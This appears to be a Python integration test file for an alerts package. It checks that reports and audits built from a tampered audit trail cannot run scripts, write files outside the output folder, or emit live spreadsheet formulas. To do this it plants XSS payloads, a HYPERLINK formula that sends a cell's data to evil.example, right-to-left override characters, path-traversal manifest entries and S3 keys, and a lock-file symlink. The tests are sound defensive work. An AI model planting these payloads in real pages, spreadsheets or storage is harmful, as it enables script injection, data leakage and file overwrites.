"""The auditor's machine is safe from the trail: a trail tampered with by whoever can write to it (the job's
own role can) makes `report` write nothing outside --to and no page run a script, `audit` write no
spreadsheet formula, and no name hide characters; a symbolic link in a lock's place is refused."""

import csv
import io
import json
import shutil
import subprocess
from pathlib import Path

import boto3
import nbformat
import pytest
from helpers import clean_env, only_run_folder, run_cli
from inert_html import active_content, has_csp

from backlog_alerts.io import emulator
from backlog_alerts.trail.audit_formats import FORMULA_START
from backlog_alerts.trail.facts import FACTS_MIME

pytestmark = pytest.mark.integration
RLO = "\u202e"
RAN = "document.documentElement.setAttribute('data-ran','yes')"  # what every planted script would do
ATTACKS = [
    f"<script>{RAN}</script>",
    f'<img src=x onerror="{RAN}">',
    f'<a href="javascript:{RAN}">open</a>',
    f"<svg><script>{RAN}</script></svg>",
    f'<svg onload="{RAN}"></svg>',
    f'<iframe srcdoc="<script>{RAN}</script>"></iframe>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff">all is well</div>',
]
FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"details")'
SNEAKY = "20261128T110713.084847Z"  # a run id whose manifest names another


def _facts_output(cell, key):
    return next(
        (o for o in cell.get("outputs", []) if o.get("data", {}).get(FACTS_MIME, {}).get("key") == key), None
    )


def tamper(out: Path, outside: Path) -> str:
    """The real run's folder with planted HTML, a hidden-character rule name and a formula count, a
    manifest entry that climbs out of the trail, and folders the package never writes."""
    folder = only_run_folder(out)
    path = folder / "03_alert_check.ipynb"
    notebook = nbformat.read(path, as_version=4)
    for cell in notebook.cells:
        found = _facts_output(cell, "alerts")
        if found:
            alert = found["data"][FACTS_MIME]["value"][0]
            alert["rule"], alert["count"] = f"pot{RLO}seloh", FORMULA
            found["data"]["text/html"] = "".join(ATTACKS)
    planted = nbformat.v4.new_code_cell("")
    planted.outputs = [nbformat.v4.new_output("display_data", data={"text/html": "".join(ATTACKS)})]
    links = f'[details](javascript:{RAN}) <img src=x onerror="{RAN}"> name: Ana{RLO}zepoL'
    notebook.cells[:0] = [nbformat.v4.new_markdown_cell(links), planted]
    nbformat.write(notebook, path)
    shutil.copy(path, outside / "x.ipynb")  # what a manifest entry `../../x.ipynb` points at

    manifest = json.loads((folder / "manifest.json").read_text())
    manifest["notebooks"].append({**manifest["notebooks"][-1], "notebook": "../../x.ipynb"})
    manifest["host"] = f"<script>{RAN}</script>"
    (folder / "manifest.json").write_text(json.dumps(manifest))

    for name, run_id in ((SNEAKY, "../evil"), ("..evil", "..evil"), (f"2026{RLO}1128", "x")):
        (out / name).mkdir()
        (out / name / "manifest.json").write_text(json.dumps({**manifest, "run_id": run_id}))
        shutil.copy(path, out / name / "03_alert_check.ipynb")
    return folder.name


def files_outside(root: Path, site: Path) -> dict[str, bytes]:
    """Every file outside the site but the trail's compact records: the one file reading a trail may write
    (`trail/record.py`), and only in a run folder of the trail itself."""
    return {
        str(p): p.read_bytes()
        for p in root.rglob("*")
        if p.is_file() and site not in p.parents and p.name != "record.json"
    }


def records(root: Path) -> list[str]:
    return sorted(str(p.relative_to(root)) for p in root.rglob("record.json"))


def check_site(site: Path, run_id: str):
    pages = sorted(site.rglob("*.html"))
    assert {p.relative_to(site).as_posix() for p in pages} == {
        "index.html",
        f"runs-{run_id[:4]}-{run_id[4:6]}.html",
        f"{run_id}/index.html",
        f"{run_id}/01_topic_setup.html",
        f"{run_id}/02_subscription_sync.html",
        f"{run_id}/03_alert_check.html",
    }
    for page in pages:
        text = page.read_text()
        assert active_content(text, depth=len(page.relative_to(site).parts) - 1) == [], page
        assert has_csp(text), page
        assert RLO not in text, page
    index = (site / "index.html").read_text()
    assert "Not read" in index and "its manifest names another run id" in index and "..evil" in index
    assert "2026&lt;U+202E&gt;1128" in index
    run_page = (site / run_id / "index.html").read_text()
    assert "../../x.ipynb: not a notebook this package writes" in run_page
    assert "pot&lt;U+202E&gt;seloh" in run_page and "pot&lt;U+202E&gt;seloh" in index
    notebook = (site / run_id / "03_alert_check.html").read_text()
    assert "Ana&lt;U+202E&gt;zepoL" in notebook
    assert "&lt;script&gt;" in notebook and "data:image/png;base64," in notebook  # shown as text; chart kept


def check_audit(location: str, env: dict[str, str]):
    result = run_cli(["audit", "--output-dir", location, "--format", "csv", "--per", "alert"], env)
    assert result.returncode == 0, result.stderr
    assert "its manifest names another run id" in result.stderr and "..evil" in result.stderr
    assert "../../x.ipynb: not a notebook this package writes" in result.stderr
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_START)]
    assert any(cell == "'" + FORMULA for row in rows for cell in row)
    assert RLO not in result.stdout and "pot<U+202E>seloh" in result.stdout
    table = run_cli(["audit", "--output-dir", location], env)
    assert RLO not in table.stdout + table.stderr and "2026<U+202E>1128" in table.stderr


@pytest.fixture
def tampered(aws_endpoint, tmp_path):
    out = tmp_path / "trail" / "runs"
    env = emulator.emulator_environ(aws_endpoint, clean_env())
    result = run_cli(["run", "--output-dir", str(out)], env)
    assert result.returncode == 0, result.stderr
    return out, tamper(out, tmp_path), env


def test_a_tampered_local_trail_cannot_reach_outside_the_site_nor_act_in_it(tampered, tmp_path):
    out, run_id, env = tampered
    site = tmp_path / "site"
    before = files_outside(tmp_path, site)
    result = run_cli(["report", "--output-dir", str(out), "--to", str(site)], env)
    assert result.returncode == 0, result.stderr
    assert files_outside(tmp_path, site) == before, "the report wrote outside --to"
    assert records(tmp_path) == [f"trail/runs/{run_id}/record.json"]  # the run's own, rebuilt: no other
    check_site(site, run_id)
    check_audit(str(out), env)
    if CHROMIUM:
        for page in site.rglob("*.html"):
            assert 'data-ran="yes"' not in chromium_dom(page), page


def test_a_tampered_trail_on_s3_is_read_the_same_way(tampered, tmp_path):
    out, run_id, env = tampered
    s3 = boto3.client("s3", region_name="us-east-1")
    s3.create_bucket(Bucket="trail")
    for path in out.rglob("*"):
        if path.is_file():
            s3.upload_file(str(path), "trail", f"runs/{path.relative_to(out).as_posix()}")
    # A folder S3 alone can hold: a key that climbs out of the prefix.
    dotted = ["runs/../evil/manifest.json", f"runs/./{run_id}/manifest.json", f"runs//{run_id}/manifest.json"]
    for key in dotted:
        s3.upload_file(str(out / run_id / "manifest.json"), "trail", key)
    site = tmp_path / "site-s3"
    before = files_outside(tmp_path, site)
    result = run_cli(["report", "--output-dir", "s3://trail/runs", "--to", str(site)], env)
    assert result.returncode == 0, result.stderr
    assert files_outside(tmp_path, site) == before, "the report wrote outside --to"
    check_site(site, run_id)
    check_audit("s3://trail/runs", env)
    said = run_cli(["audit", "--output-dir", "s3://trail/runs"], env).stderr
    for key in dotted:  # S3 alone can hold these: said, not skipped silently
        assert f"not read: s3://trail/{key}: a key with an empty or dot path segment; not followed" in said


def test_a_symbolic_link_in_the_lock_s_place_is_refused_not_followed(aws_endpoint, tmp_path):
    (tmp_path / "out").mkdir()
    target = tmp_path / "victim"
    (tmp_path / "out" / ".backlog-alerts.lock").symlink_to(target)
    env = emulator.emulator_environ(aws_endpoint, clean_env())
    params = Path(__file__).parents[2] / "params" / "local.yaml"
    result = run_cli(["run", "--params", str(params), "--output-dir", "out"], env, cwd=tmp_path)
    assert result.returncode == 2
    assert "out/.backlog-alerts.lock: is a symbolic link; remove it" in result.stderr
    assert "Traceback" not in result.stderr
    assert not target.exists() and not list((tmp_path / "out").iterdir())[0].resolve().exists()


CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")


def chromium_dom(page: Path) -> str:
    """The page's DOM once Chromium has loaded it and run whatever it would run."""
    base = [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--virtual-time-budget=3000"]
    result = subprocess.run([*base, "--dump-dom", page.as_uri()], capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    return result.stdout
